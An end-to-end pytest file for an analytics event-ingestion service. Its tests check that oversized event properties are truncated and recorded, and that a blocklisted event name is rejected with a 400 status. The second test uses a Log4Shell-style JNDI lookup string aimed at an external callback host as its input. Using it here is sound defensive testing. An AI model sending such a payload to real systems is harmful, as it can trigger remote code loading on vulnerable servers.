"""OpenPanel's tolerance over HTTP through the local gateway into DynamoDB Local: oversized properties stored cut
and listed, blocklisted event names refused and kept (issue 16 items 6 and 7)."""

from __future__ import annotations

import json

import pytest

from beacon.models.requests import MAX_STRING_LENGTH
from beacon.store.rejected import DynamoDBRejectedEventStore
from tests.e2e.test_track_http import auth_headers, post

pytestmark = pytest.mark.e2e


def test_an_oversized_property_is_stored_cut_and_listed_beside_the_refused_events(
    gateway_url, create_client, project_id, stored_events, dynamodb, template_env
):
    # Given a client, when an event with a string over the bound and one too many list items is sent
    client = create_client(project_id)
    properties = {"note": "n" * (MAX_STRING_LENGTH + 100), "tags": list(range(201)), "ok": 1}
    body = {"type": "track", "payload": {"name": "long_note", "properties": properties}}
    status, _, answer = post(f"{gateway_url}/track", json.dumps(body), auth_headers(client))

    # Then it is stored (not a 400) with the values cut and the cut paths listed
    assert status == 200, answer
    [event] = stored_events(project_id)
    assert event["properties"]["note"] == "n" * MAX_STRING_LENGTH
    assert event["properties"]["tags"] == list(range(200))
    assert event["properties"]["ok"] == 1
    assert event["properties"]["__truncated"] == ["note", "tags"]
    # and the project's rejected-events list shows it with status 200 and the cut paths
    [listed] = DynamoDBRejectedEventStore(template_env["REJECTED_EVENTS_TABLE"], client=dynamodb).list_rejected(
        project_id
    )
    assert (listed["reason"], listed["status"]) == ("Stored with properties cut to the bounds", 200)
    assert [detail["field"] for detail in listed["details"]] == ["payload.properties.note", "payload.properties.tags"]


def test_a_blocklisted_event_name_is_400_and_listed(
    gateway_url, create_client, project_id, stored_events, dynamodb, template_env
):
    # Given a client, when a scanner's probe arrives as an event name
    client = create_client(project_id)
    body = {"type": "track", "payload": {"name": "${jndi:ldap://x.oastify.com/a}"}}
    status, _, answer = post(f"{gateway_url}/track", json.dumps(body), auth_headers(client))

    # Then it is refused, nothing is stored, and the refusal is listed with its type
    assert (status, answer["status"]) == (400, 400)
    assert [detail["type"] for detail in answer["details"]] == ["event_name_blocked"]
    assert stored_events(project_id) == []
    [listed] = DynamoDBRejectedEventStore(template_env["REJECTED_EVENTS_TABLE"], client=dynamodb).list_rejected(
        project_id
    )
    assert (listed["reason"], listed["status"]) == ("Invalid request body", 400)
    assert [detail["type"] for detail in listed["details"]] == ["event_name_blocked"]
